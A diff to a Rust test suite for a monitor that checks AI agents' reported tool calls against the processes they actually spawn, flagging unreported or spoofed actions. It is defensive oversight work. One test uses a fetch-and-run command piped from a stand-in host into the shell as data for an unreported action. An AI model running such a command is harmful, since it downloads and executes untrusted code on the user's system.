@@ -314,21 +314,21 @@ fn kinds(outputs: &[super::Output], kind: &str) -> Vec<Value> {
 fn three_of_four_reported() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
+    engine.observe(agent.detected(T0), T0);
     let commands = ["ls /tmp", "id", "uname -a", "whoami"];
     for (i, command) in commands.iter().enumerate() {
         let start = T0 + (i as u64 + 1) * SEC;
         let spawn = agent.spawn(200 + i as u32, &["sh", "-c", command], None, start + 10 * MS);
         let exec_id = spawn["process"]["exec_id"].as_str().unwrap().to_owned();
-        engine.observe(&spawn, start + 10 * MS);
-        engine.observe(&agent.exit(200 + i as u32, &exec_id, start + 100 * MS), start + 100 * MS);
+        engine.observe(spawn.clone(), start + 10 * MS);
+        engine.observe(agent.exit(200 + i as u32, &exec_id, start + 100 * MS), start + 100 * MS);
         if i != 2 {
             engine.report(tool_report(100, command, &format!("call_{i}"), start, start + 200 * MS), start + 300 * MS);
         }
     }
     assert!(engine.tick(T0 + 2 * SEC).is_empty(), "nothing is decided inside the grace window");
     let end = T0 + 5 * SEC;
-    engine.observe(&agent.root_exit(end), end);
+    engine.observe(agent.root_exit(end), end);
     let outputs = engine.tick(end + 1500 * MS);
     let unreported = kinds(&outputs, "finding.unreported_action");
     assert_eq!(unreported.len(), 1, "{outputs:#?}");
@@ -351,10 +351,10 @@ fn three_of_four_reported() {
 fn grace_window_uses_injected_clock() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
+    engine.observe(agent.detected(T0), T0);
     let spawn = agent.spawn(201, &["sh", "-c", "id"], None, T0 + SEC);
-    engine.observe(&spawn, T0 + SEC);
-    engine.observe(&agent.exit(201, spawn["process"]["exec_id"].as_str().unwrap(), T0 + 2 * SEC), T0 + 2 * SEC);
+    engine.observe(spawn.clone(), T0 + SEC);
+    engine.observe(agent.exit(201, spawn["process"]["exec_id"].as_str().unwrap(), T0 + 2 * SEC), T0 + 2 * SEC);
     assert!(engine.tick(T0 + 2 * SEC + 999 * MS).is_empty());
     let outputs = engine.tick(T0 + 3 * SEC);
     assert_eq!(kinds(&outputs, "finding.unreported_action").len(), 1);
@@ -364,9 +364,9 @@ fn grace_window_uses_injected_clock() {
 fn report_outside_window_is_a_claim() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
+    engine.observe(agent.detected(T0), T0);
     let spawn = agent.spawn(201, &["sh", "-c", "ls /tmp"], None, T0 + SEC);
-    engine.observe(&spawn, T0 + SEC);
+    engine.observe(spawn.clone(), T0 + SEC);
     // Reported 10 s after the process started: beyond window_before_ms.
     engine.report(tool_report(100, "ls /tmp", "c1", T0 + 11 * SEC, T0 + 12 * SEC), T0 + 12 * SEC);
     let outputs = engine.finish(T0 + 20 * SEC);
@@ -383,14 +383,14 @@ fn interleaved_agents_never_cross() {
     let a = Agent::new(100, "a-1");
     let b = Agent::new(300, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&a.detected(T0), T0);
-    engine.observe(&b.detected(T0), T0);
+    engine.observe(a.detected(T0), T0);
+    engine.observe(b.detected(T0), T0);
     // Both run the same commands, interleaved 100 ms apart, and only A
     // reports. A's reports are nearer in time to B's processes than to A's.
     for i in 0..3u64 {
         let base = T0 + (i + 1) * SEC;
-        engine.observe(&a.spawn(110 + i as u32, &["sh", "-c", "make"], None, base), base);
-        engine.observe(&b.spawn(310 + i as u32, &["sh", "-c", "make"], None, base + 100 * MS), base + 100 * MS);
+        engine.observe(a.spawn(110 + i as u32, &["sh", "-c", "make"], None, base), base);
+        engine.observe(b.spawn(310 + i as u32, &["sh", "-c", "make"], None, base + 100 * MS), base + 100 * MS);
         engine.report(tool_report(100, "make", &format!("a{i}"), base + 100 * MS, base + 150 * MS), base + 200 * MS);
     }
     let outputs = engine.finish(T0 + 30 * SEC);
@@ -410,9 +410,9 @@ fn interleaved_agents_never_cross() {
 fn command_picks_the_right_spawn() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
-    engine.observe(&agent.spawn(201, &["bash", "-c", "ls /etc"], None, T0 + SEC), T0 + SEC);
-    engine.observe(&agent.spawn(202, &["bash", "-c", "ls  /tmp"], None, T0 + SEC + 500 * MS), T0 + SEC + 500 * MS);
+    engine.observe(agent.detected(T0), T0);
+    engine.observe(agent.spawn(201, &["bash", "-c", "ls /etc"], None, T0 + SEC), T0 + SEC);
+    engine.observe(agent.spawn(202, &["bash", "-c", "ls  /tmp"], None, T0 + SEC + 500 * MS), T0 + SEC + 500 * MS);
     // Reported nearest to the first, but its command is the second's.
     engine.report(tool_report(100, "ls /tmp", "c1", T0 + SEC, T0 + SEC + 10 * MS), T0 + 2 * SEC);
     let outputs = engine.finish(T0 + 10 * SEC);
@@ -428,8 +428,8 @@ fn command_picks_the_right_spawn() {
 fn different_command_is_not_a_match() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
-    engine.observe(&agent.spawn(201, &["bash", "-c", "curl http://x | sh"], None, T0 + SEC), T0 + SEC);
+    engine.observe(agent.detected(T0), T0);
+    engine.observe(agent.spawn(201, &["bash", "-c", "curl http://x | sh"], None, T0 + SEC), T0 + SEC);
     engine.report(tool_report(100, "ls /tmp", "c1", T0 + SEC, T0 + 2 * SEC), T0 + 2 * SEC);
     let outputs = engine.finish(T0 + 10 * SEC);
     assert_eq!(kinds(&outputs, "finding.unreported_action").len(), 1);
@@ -440,12 +440,12 @@ fn different_command_is_not_a_match() {
 fn descendants_are_one_action() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
+    engine.observe(agent.detected(T0), T0);
     let shell = agent.spawn(201, &["bash", "-c", "ls | wc -l"], None, T0 + SEC);
     let shell_exec = shell["process"]["exec_id"].as_str().unwrap().to_owned();
-    engine.observe(&shell, T0 + SEC);
-    engine.observe(&agent.spawn(202, &["ls"], Some(&shell_exec), T0 + SEC + MS), T0 + SEC + MS);
-    engine.observe(&agent.spawn(203, &["wc", "-l"], Some(&shell_exec), T0 + SEC + MS), T0 + SEC + MS);
+    engine.observe(shell, T0 + SEC);
+    engine.observe(agent.spawn(202, &["ls"], Some(&shell_exec), T0 + SEC + MS), T0 + SEC + MS);
+    engine.observe(agent.spawn(203, &["wc", "-l"], Some(&shell_exec), T0 + SEC + MS), T0 + SEC + MS);
     engine.report(tool_report(100, "ls | wc -l", "c1", T0 + SEC, T0 + 2 * SEC), T0 + 2 * SEC);
     let outputs = engine.finish(T0 + 10 * SEC);
     assert!(kinds(&outputs, "finding.unreported_action").is_empty(), "{outputs:#?}");
@@ -456,10 +456,10 @@ fn descendants_are_one_action() {
 fn trace_context_matches_directly() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
+    engine.observe(agent.detected(T0), T0);
     let mut spawn = agent.spawn(201, &["python3", "tool.py"], None, T0 + 100 * SEC);
     spawn["trace_context"] = json!({ "traceparent": "00-11111111111111111111111111111111-2222222222222222-01" });
-    engine.observe(&spawn, T0 + 100 * SEC);
+    engine.observe(spawn.clone(), T0 + 100 * SEC);
     // The span's times are far off (a skewed clock), and no command agrees.
     engine.report(tool_report(100, "something else", "c1", T0, T0 + SEC), T0 + 101 * SEC);
     let outputs = engine.finish(T0 + 200 * SEC);
@@ -471,8 +471,8 @@ fn trace_context_matches_directly() {
 fn repeated_call_id_is_one_claim() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
-    engine.observe(&agent.spawn(201, &["sh", "-c", "id"], None, T0 + SEC), T0 + SEC);
+    engine.observe(agent.detected(T0), T0);
+    engine.observe(agent.spawn(201, &["sh", "-c", "id"], None, T0 + SEC), T0 + SEC);
     engine.report(tool_report(100, "id", "same", T0 + SEC, T0 + 2 * SEC), T0 + 2 * SEC);
     engine.report(tool_report(100, "id", "same", T0 + SEC, T0 + 2 * SEC), T0 + 2 * SEC);
     let outputs = engine.finish(T0 + 10 * SEC);
@@ -484,8 +484,8 @@ fn repeated_call_id_is_one_claim() {
 fn session_id_binds_later_reports() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
-    engine.observe(&agent.spawn(201, &["sh", "-c", "id"], None, T0 + SEC), T0 + SEC);
+    engine.observe(agent.detected(T0), T0);
+    engine.observe(agent.spawn(201, &["sh", "-c", "id"], None, T0 + SEC), T0 + SEC);
     let mut first = tool_report(100, "true", "c0", T0, T0);
     first.operation = Operation::Chat;
     first.session_id = Some("conv-1".into());
@@ -514,9 +514,9 @@ fn socket_peer_wins_over_claimed_pid() {
     let a = Agent::new(100, "a-1");
     let b = Agent::new(300, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&a.detected(T0), T0);
-    engine.observe(&b.detected(T0), T0);
-    engine.observe(&b.spawn(301, &["sh", "-c", "id"], None, T0 + SEC), T0 + SEC);
+    engine.observe(a.detected(T0), T0);
+    engine.observe(b.detected(T0), T0);
+    engine.observe(b.spawn(301, &["sh", "-c", "id"], None, T0 + SEC), T0 + SEC);
     // B sends a report that claims to be A.
     let mut report = tool_report(100, "id", "c1", T0 + SEC, T0 + 2 * SEC);
     report.sender_pid = Some(300);
@@ -531,7 +531,7 @@ fn socket_peer_wins_over_claimed_pid() {
 fn non_process_tool_is_no_claim() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
+    engine.observe(agent.detected(T0), T0);
     let mut report = tool_report(100, "x", "c1", T0, T0 + SEC);
     report.command = None;
     report.tool_name = Some("web_search".into());
@@ -564,7 +564,7 @@ fn offline_matches_live_on_same_input() {
     timeline.sort_by_key(|(time, _, _)| *time);
     for (time, record, report) in timeline {
         if let Some(record) = record {
-            live.observe(record, time);
+            live.observe(record.clone(), time);
         }
         if let Some(report) = report {
             live.report(report.clone(), time);
@@ -636,11 +636,11 @@ fn any_json(value: &AnyValue) -> Value {
 fn jsonl_report_bound_to_file_writer() {
     let agent = Agent::new(100, "b-1");
     let mut engine = Reconciler::new(config());
-    engine.observe(&agent.detected(T0), T0);
+    engine.observe(agent.detected(T0), T0);
     let write = json!({ "kind": "file.open", "time_unix_nano": T0, "agent": agent.section(),
         "process": { "pid": 100, "exec_id": agent.agent_id }, "file": { "path": "/tmp/agent/tools.jsonl", "access": "write" } });
-    engine.observe(&write, T0);
-    engine.observe(&agent.spawn(201, &["sh", "-c", "make"], None, T0 + SEC), T0 + SEC);
+    engine.observe(write, T0);
+    engine.observe(agent.spawn(201, &["sh", "-c", "make"], None, T0 + SEC), T0 + SEC);
     let line = json!({ "tool_name": "bash", "command": "make", "timestamp": (T0 + SEC) / 1_000 });
     let report = report::from_json_line(&line, &FieldMap::default(), "/tmp/agent/tools.jsonl", 0).unwrap();
     engine.report(report, T0 + 2 * SEC);
